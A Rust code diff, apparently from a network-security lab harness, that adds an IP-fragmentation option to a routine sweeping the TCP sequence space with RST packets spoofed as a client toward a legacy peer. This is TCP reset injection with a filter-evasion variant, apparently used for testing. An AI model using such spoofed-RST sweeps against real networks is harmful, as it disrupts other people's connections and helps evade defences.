@@ -9,9 +9,10 @@ use std::{
 };
 
 use crate::{
+    fragments::Cut,
     legacy::{LegacyPeer, WINDOW},
     routed::{Routed, CLIENT, LEGACY},
-    spoof::sweep,
+    spoof::sweep_cut,
     LiveTransfer,
 };
 
@@ -58,12 +59,25 @@ pub struct Sweep {
 /// Sweeps the sequence space (up to `rounds` times, stopping at a reset)
 /// with RSTs spoofed as the client, from the attacker.
 pub fn sweep_attack(lab: &Routed, peer: &LegacyPeer, client_port: u16, rounds: u32) -> Sweep {
+    sweep_attack_cut(lab, peer, client_port, rounds, None)
+}
+
+/// [`sweep_attack`], with every RST cut into IP fragments when `cut` is
+/// some.
+pub fn sweep_attack_cut(
+    lab: &Routed,
+    peer: &LegacyPeer,
+    client_port: u16,
+    rounds: u32,
+    cut: Option<Cut>,
+) -> Sweep {
     let src = CLIENT.addr(false, client_port);
     let dst = SocketAddr::new(LEGACY.parse().unwrap(), LEGACY_PORT);
     let resets = peer.resets();
     let mut sent = 0;
     for round in 0..rounds {
-        sent += sweep(&lab.attacker, src, dst, STEP, round.wrapping_mul(STEP / 3));
+        let start = round.wrapping_mul(STEP / 3);
+        sent += sweep_cut(&lab.attacker, src, dst, STEP, start, cut);
         thread::sleep(Duration::from_millis(300));
         if peer.resets() > resets {
             return Sweep { sent, reset: true };
